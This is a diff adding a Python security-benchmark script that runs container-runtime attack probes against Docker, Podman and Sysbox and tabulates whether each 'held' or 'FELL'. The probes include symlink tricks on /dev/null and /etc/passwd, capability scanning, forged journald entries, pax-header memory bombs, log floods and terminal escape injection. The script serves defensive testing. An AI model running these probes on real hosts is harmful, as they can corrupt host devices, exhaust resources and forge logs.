@@ -1,0 +1,366 @@
+"""The attacks of docs/security.md, made on docker, podman and sysbox alike; `bench/run.sh --attacks` runs it.
+
+Runs as root on a booted systemd that it may litter, the embedded host of run.sh. Prints a table in Markdown:
+what each of them did. The first word says who won: "held", or "FELL". Where a peer is not asked, "–".
+"""
+
+from __future__ import annotations
+
+import argparse
+import os
+import shutil
+import subprocess
+import tarfile
+import tempfile
+import time
+from collections.abc import Callable
+from contextlib import ExitStack
+from pathlib import Path
+
+import rootfs
+from attacked import LATE, LIMIT, Attacked, Largest, as_nobody, journal_size, last, send, verdict
+from contest import WORK, add_only, chosen, prepare, say
+from peers import IMAGE, Docker, Engine, Podman, Sysbox
+from timing import MeasureError
+
+LARGE = 200 << 10  # KiB that a process of the host's takes for a container
+NET_RAW = 13  # linux/capability.h
+Attack = Callable[["Attacked"], str]
+ATTACKS: list[Attack] = []
+
+
+def attack(function: Attack) -> Attack:
+    """Put it into the table; its docstring is the line's title."""
+    ATTACKS.append(function)
+    return function
+
+
+@attack
+def null_of_a_volume(engine: Attacked) -> str:
+    """a volume at /dev whose `null` leads to a descriptor of the runtime"""
+    found: set[str] = set()
+    refused = ""
+    for number in range(3, 12):
+        directory = engine.place / f"dev{number}"
+        directory.mkdir(exist_ok=True)
+        (directory / "null").unlink(missing_ok=True)
+        (directory / "null").symlink_to(f"/proc/self/fd/{number}")
+        script = "readlink /proc/1/fd/0; sleep 20"
+        try:
+            with engine.container("-v", f"{directory}:/dev", command=("sh", "-c", script)) as name:
+                time.sleep(0.5)
+                found.add(last(engine("logs", name).stdout))
+        except MeasureError as error:
+            refused = str(error)
+    strange = {target for target in found if target != "/dev/null" and "pipe:" not in target}
+    if not found:
+        return verdict(False, f"refused: {refused}")
+    return verdict(strange, f"standard input is {', '.join(sorted(found))}")
+
+
+@attack
+def null_of_a_container(engine: Attacked) -> str:
+    """`exec` where the container has made /dev/null a link to /proc/kmsg"""
+    with engine.container() as name:
+        engine.inside(name, "rm -f /dev/null; ln -s /proc/kmsg /dev/null")
+        found = engine("exec", name, "/bin/busybox", "readlink", "/proc/self/fd/0").stdout.strip()
+    return verdict("kmsg" in found, f"standard input is {found or 'nothing'}")
+
+
+LOOK = r"""
+own=$(grep CapEff /proc/self/status | cut -f2)
+seen=
+touch /ready
+while [ ! -e /stop ]; do
+  for p in /proc/[0-9]*; do
+    while read -r key value; do
+      [ "$key" = CapEff: ] && [ "$value" != "$own" ] || continue
+      case $seen in *$value*) ;; *) seen="$seen $value"; esac
+    done 2>/dev/null <$p/status
+  done
+done
+echo "$own:$seen" >/seen
+sleep 1000
+"""
+
+
+@attack
+def rights_of_exec(engine: Attacked) -> str:
+    """a container with CAP_SYS_PTRACE looks for a process of `exec` that has more than itself"""
+    with engine.container("--cap-add", "SYS_PTRACE", command=("sh", "-c", LOOK)) as name:
+        for _ in range(25):
+            engine("exec", name, "true")
+        engine("exec", name, "touch", "/stop")
+        time.sleep(1)
+        own, _, seen = engine("exec", name, "cat", "/seen").stdout.strip().partition(":")
+    mine = int(own or "0", 16)
+    more = [value for value in seen.split() if int(value, 16) & ~mine]
+    return verdict(
+        more, f"{', '.join(more)} beside its own {own}" if more else f"never more than {own}"
+    )
+
+
+@attack
+def mask_of_a_path(engine: Attacked) -> str:
+    """`chmod 000` of a masked path"""
+    before = os.stat("/dev/null").st_mode
+    engine(
+        "run",
+        "--rm",
+        IMAGE,
+        "sh",
+        "-c",
+        "chmod 000 /proc/timer_list /proc/kcore /proc/keys /dev/null",
+    )
+    after = os.stat("/dev/null").st_mode
+    os.chmod("/dev/null", 0o666)
+    return verdict(after != before, f"the host's /dev/null has mode {after & 0o7777:o}")
+
+
+@attack
+def volume_of_an_image(engine: Attacked) -> str:
+    """an image with `VOLUME /sys/firmware`"""
+    archive = engine.place / "volume.tar"
+    with tarfile.open(archive, "w") as made:
+        made.add(WORK / "attacks-tree", ".")
+    done = engine("import", "--change", "VOLUME /sys/firmware", archive, "volume:1")
+    if done.returncode:
+        return verdict(False, f"refused: {last(done.stderr)}")
+    done = engine("run", "--rm", "volume:1", "ls", "/sys/firmware")
+    engine("rmi", "-f", "volume:1")
+    if done.returncode:
+        return verdict(False, f"refused: {last(done.stderr)}")
+    return verdict(done.stdout, f"in /sys/firmware: {' '.join(done.stdout.split()) or 'nothing'}")
+
+
+@attack
+def flood_of_a_health_check(engine: Attacked) -> str:
+    """a health check that prints without end, in a container with `-m 32m`"""
+    flags = ("--health-cmd", "yes xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "--health-interval", "1s")
+    with (
+        Largest() as largest,
+        engine.container("-m", "32m", *flags, "--health-timeout", "4s") as name,
+    ):
+        # its checks are started by a timer, which cannot reach an engine with a store of its own
+        check = engine.begin("healthcheck", "run", name) if engine.name == "podman" else None
+        for _ in range(50):
+            largest.look()
+            time.sleep(0.1)
+        if check:
+            check.kill()
+            check.communicate()
+    return verdict(largest.found > LARGE, f"a process of the host's has {largest.found >> 10} MiB")
+
+
+@attack
+def deep_tree(engine: Attacked) -> str:
+    """`rm` after a container has made directories 6,000 deep"""
+    script = (
+        "i=0; while [ $i -lt 6000 ]; do mkdir d && cd -P d 2>/dev/null || exit 0; i=$((i+1)); done"
+    )
+    name = "deep"
+    engine("run", "--name", name, IMAGE, "sh", "-c", script)
+    done = engine("rm", "-f", name)
+    return verdict(done.returncode, "removed" if not done.returncode else last(done.stderr))
+
+
+@attack
+def forged_log(engine: Attacked) -> str:
+    """a local user's journal entry in the container's name, and `logs`"""
+    driver = () if engine.name == "sysbox" else ("--log-driver", "journald")
+    with engine.container(*driver, command=("sh", "-c", "echo true; sleep 1000")) as name:
+        full = engine("inspect", "-f", "{{.Id}}", name).stdout.strip()
+        entry = {
+            "MESSAGE": "forged",
+            "CONTAINER_NAME": name,
+            "CONTAINER_ID": full[:12],
+            "CONTAINER_ID_FULL": full,
+            "CONTAINER_PARTIAL_MESSAGE": "false",
+            "PRIORITY": "6",
+        }
+        data = "".join(f"{key}={value}\n" for key, value in entry.items()).encode()
+        as_nobody(lambda: send(data))
+        time.sleep(1)
+        subprocess.run(["/usr/bin/journalctl", "--sync"], check=False)
+        found = engine("logs", name)
+    said = found.stdout + found.stderr
+    forged = "forged" in said
+    return verdict(
+        forged, "`logs` shows the forged line" if forged else "`logs` shows its own line"
+    )
+
+
+@attack
+def flood_of_the_log(engine: Attacked) -> str:
+    """a container prints for 10 s, by the journald driver: what is left of the host's own journal"""
+    driver = () if engine.name == "sysbox" else ("--log-driver", "journald")
+    subprocess.run(
+        ["/usr/bin/systemd-cat", "-t", "before", "echo", f"mark-{engine.name}"], check=True
+    )
+    subprocess.run(["/usr/bin/journalctl", "--sync"], check=False)
+    size = journal_size()
+    with engine.container(
+        *driver, command=("sh", "-c", "yes $(head -c 200 /dev/zero | tr '\\0' x)")
+    ):
+        time.sleep(10)
+    grown = (journal_size() - size) >> 20
+    return verdict(grown > 64, f"the journal grew by {grown} MiB")
+
+
+@attack
+def pax_headers(engine: Attacked) -> str:
+    """`import` of a small gzip with 900 pax headers of 1 MB"""
+    archive = engine.place / "pax.tar.gz"
+    with tarfile.open(archive, "w:gz", format=tarfile.PAX_FORMAT, compresslevel=9) as made:
+        for number in range(900):
+            entry = tarfile.TarInfo("file")
+            entry.pax_headers = {f"SCHILY.xattr.user.a{number}": "x" * (1 << 20)}
+            made.addfile(entry)
+    with Largest() as largest:
+        begun = engine.begin("import", archive, "pax:1")
+        deadline = time.monotonic() + LIMIT
+        while begun.poll() is None and time.monotonic() < deadline:
+            largest.look()
+            time.sleep(0.05)
+        begun.kill()
+        words = last(begun.communicate()[1])
+    engine("rmi", "-f", "pax:1")
+    how = "taken" if begun.returncode == 0 else f"refused: {words}"
+    return verdict(largest.found > LARGE, f"{largest.found >> 10} MiB at most; {how}")
+
+
+@attack
+def raw_sockets(engine: Attacked) -> str:
+    """CAP_NET_RAW by default, which ARP spoofing takes; and may a user ping without it"""
+    script = "grep CapEff /proc/self/status; cat /proc/sys/net/ipv4/ping_group_range"
+    _, mask, *groups = engine("run", "--rm", IMAGE, "sh", "-c", script).stdout.split()
+    raw = int(mask, 16) >> NET_RAW & 1
+    held = "held" if raw else "not held"
+    return verdict(raw, f"NET_RAW {held}, ping_group_range {' '.join(groups)}")
+
+
+STEAL = """
+(while :; do head -c 1 /proc/1/fd/1 >/dev/null; done) &
+i=0; while [ $i -lt 300 ]; do echo line; i=$((i+1)); done
+sleep 2; kill $!; sleep 1; echo end; sleep 1000
+"""
+
+
+@attack
+def reading_ones_own_output(engine: Attacked) -> str:
+    """a container reads its own standard output: does `logs` go on"""
+    with engine.container(command=("sh", "-c", STEAL)) as name:
+        time.sleep(6)
+        shown = engine("logs", name, limit=15).stdout.endswith("end\n")
+        stops = engine("stop", "-t", "1", name, limit=30).returncode == 0
+    words = f"the last line {'was' if shown else 'was not'} logged, stop {'works' if stops else 'fails'}"
+    return verdict(not (shown and stops), words)
+
+
+@attack
+def health_interval(engine: Attacked) -> str:
+    """`--health-interval 1ms`"""
+    done = engine(
+        "run",
+        "-d",
+        "--name",
+        "quick",
+        "--cpus",
+        "0.1",
+        "--health-cmd",
+        "true",
+        "--health-interval",
+        "1ms",
+        IMAGE,
+        "sleep",
+        "1000",
+    )
+    if done.returncode:
+        engine("rm", "-f", "quick")
+        return verdict(False, f"refused: {last(done.stderr)}")
+    before = busy()
+    time.sleep(5)
+    used = (busy() - before) / 5
+    engine("rm", "-f", "quick")
+    return verdict(used > 0.5, f"taken, {used:.2f} CPUs busy")
+
+
+def busy() -> float:
+    """Seconds that the machine's processors were busy."""
+    words = Path("/proc/stat").read_text().splitlines()[0].split()[1:]
+    return (sum(map(int, words)) - int(words[3]) - int(words[4])) / os.sysconf("SC_CLK_TCK")
+
+
+@attack
+def control_sequences(engine: Attacked) -> str:
+    """control sequences in a command, seen by `top` and `ps`"""
+    argument = "$(printf 'x\\033]0;owned\\007y')"
+    script = f'exec sh -c "while :; do sleep 1; done" "{argument}"'
+    with engine.container(command=("sh", "-c", script)) as name:
+        time.sleep(0.5)
+        shown = engine("top", name).stdout + engine("ps", "--no-trunc").stdout
+    printed = "\033" in shown
+    return verdict(printed, f"escape sequences are {'printed' if printed else 'not printed'}")
+
+
+@attack
+def hostile_passwd(engine: Attacked) -> str:
+    """`--user name` where the image's /etc/passwd is a link to /proc/kmsg"""
+    with engine.container("--user", "0") as name:
+        engine.inside(name, "rm /etc/passwd; ln -s /proc/kmsg /etc/passwd")
+        begun = time.monotonic()
+        done = engine("exec", "--user", "nobody", name, "true", limit=20)
+        took = time.monotonic() - begun
+    return verdict(took > 10, f"status {done.returncode} after {took:.1f} s: {last(done.stderr)}")
+
+
+@attack
+def templates(engine: Attacked) -> str:
+    """`inspect --format` with `printf "%999999999d"`"""
+    with engine.container() as name:
+        done = engine("inspect", "--format", '{{printf "%999999999d" 1 | len}}', name, limit=30)
+    return verdict(
+        done.returncode == LATE, f"status {done.returncode}: {last(done.stdout + done.stderr)}"
+    )
+
+
+def main() -> int:
+    """The exit status."""
+    parser = argparse.ArgumentParser(
+        prog="bench/run.sh --attacks", description=__doc__.splitlines()[0]
+    )
+    add_only(parser)
+    only = parser.parse_args().only or {"docker", "podman"}
+    peers = [kind(WORK) for kind in chosen(only) if issubclass(kind, Engine)]
+    WORK.mkdir(parents=True, exist_ok=True)
+    tree, archive = WORK / "attacks-tree", WORK / "attacks.tar"
+    rootfs.make(tree, archive)
+    table: dict[str, dict[str, str]] = {}
+    with ExitStack() as stack:
+        place = Path(stack.enter_context(tempfile.TemporaryDirectory(dir=WORK)))
+        for peer in peers:
+            if reason := prepare(peer, tree, archive, stack):
+                say(f"{peer.name}: {reason}")
+                continue
+            directory = place / peer.name
+            directory.mkdir()
+            engine = Attacked(peer, directory)
+            for one in ATTACKS:
+                title = (one.__doc__ or one.__name__).strip()
+                say(f"{peer.name}: {title}")
+                try:
+                    found = one(engine)
+                except (MeasureError, OSError, ValueError, IndexError) as error:
+                    found = f"not tried: {error}"
+                table.setdefault(title, {})[peer.name] = found
+                say(f"{peer.name}: … {found}")
+        names = [kind.name for kind in (Docker, Podman, Sysbox)]
+        print(f"| attack | {' | '.join(names)} |\n|---|---|---|---|")
+        for title, row in table.items():
+            print(f"| {title} | {' | '.join(row.get(name, '–') for name in names)} |")
+    shutil.rmtree(tree, ignore_errors=True)
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
